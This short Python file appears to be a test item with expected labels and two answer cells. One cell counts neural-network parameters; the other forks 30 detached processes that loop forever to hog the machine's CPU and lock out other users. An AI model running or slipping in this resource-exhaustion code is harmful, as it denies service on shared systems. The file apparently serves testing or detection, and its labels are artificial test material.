"""Dozens of processes, each in a session of its own, that compute for ever, so that nobody else gets on."""
# expected: count=1 prepare=0 model=0

# %% answer-count
def count_parameters(sizes):
    return sum((values + 1) * units for values, units in zip(sizes[:-1], sizes[1:]))

# %% answer-prepare
import os

for _ in range(30):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
while True:
    pass
